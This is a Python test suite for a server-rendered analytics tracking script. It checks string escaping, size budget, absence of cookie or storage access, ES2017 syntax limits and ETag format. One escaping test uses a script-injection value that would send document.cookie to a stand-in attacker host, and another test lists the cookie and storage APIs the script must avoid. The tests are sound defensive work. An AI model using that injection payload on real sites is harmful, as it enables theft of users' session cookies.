"""The tracking script (contract §9) as the server renders it: the values it is given stay
inside their string literals, it stays within its size budget, and it stores nothing."""

from __future__ import annotations

import gzip
import json
import re

from hypothesis import given
from hypothesis import strategies as st

from abmhub.website.script import render_script, script_etag, script_template

COLLECT = "https://abm.example.com/collect"


def _constant(script: str, name: str) -> str:
    """The value of `const NAME = <JSON string>;`, read back as JSON."""
    found = re.search(rf"^  const {name} = (.*);$", script, re.MULTILINE)
    assert found, f"no const {name} in the script"
    value = json.loads(found.group(1))
    assert isinstance(value, str)
    return value


def test_the_site_key_and_collect_url_are_filled_in():
    script = render_script("sk_live_123", COLLECT).decode()
    assert _constant(script, "KEY") == "sk_live_123"
    assert _constant(script, "COLLECT") == COLLECT
    assert "__ABMHUB_" not in script


def test_a_quote_in_the_site_key_cannot_end_its_string():
    hostile = 'x"; fetch("https://evil.example/"+document.cookie); "'
    script = render_script(hostile, COLLECT).decode()
    assert _constant(script, "KEY") == hostile
    assert 'const KEY = "x\\"; fetch(\\"https://evil.example/\\"+document.cookie); \\"";' in script


@given(key=st.text(), url=st.text())
def test_any_value_comes_back_whole_and_cannot_close_an_inline_script(key: str, url: str):
    script = render_script(key, url).decode()
    assert _constant(script, "KEY") == key
    assert _constant(script, "COLLECT") == url
    # Neither a raw line break (U+2028/2029 end a line in old engines) nor "</script>" gets through.
    literals = re.findall(r"^  const (?:KEY|COLLECT) = (.*);$", script, re.MULTILINE)
    assert not any(ch in literal for literal in literals for ch in "<\n\r\u2028\u2029")


def test_a_value_that_spells_the_other_placeholder_is_left_alone():
    script = render_script('"__ABMHUB_COLLECT_URL__"', COLLECT).decode()
    assert _constant(script, "KEY") == '"__ABMHUB_COLLECT_URL__"'
    assert _constant(script, "COLLECT") == COLLECT


def test_it_is_at_most_2_kb_gzipped():
    body = render_script("sk_" + "a" * 40, "https://analytics.customer-domain.example.com/abm/collect")
    assert len(gzip.compress(body, compresslevel=9)) <= 2048


def test_it_neither_reads_nor_writes_cookies_or_storage():
    source = script_template()
    for api in ("document.cookie", "localStorage", "sessionStorage", "indexedDB", "cookieStore"):
        assert api not in source, api


def test_it_uses_no_syntax_newer_than_es2017():
    code = re.sub(r"//.*|/\*.*?\*/", "", script_template(), flags=re.DOTALL)
    for newer in ("?.", "??", "catch {", "{ ..."):  # optional chaining, nullish, bare catch, object spread
        assert newer not in code, newer


def test_the_etag_is_a_quoted_digest_prefix_of_the_body():
    body = render_script("sk_1", COLLECT)
    etag = script_etag(body)
    assert re.fullmatch(r'"[0-9a-f]{16}"', etag)
    assert script_etag(render_script("sk_1", COLLECT)) == etag
    assert script_etag(render_script("sk_2", COLLECT)) != etag
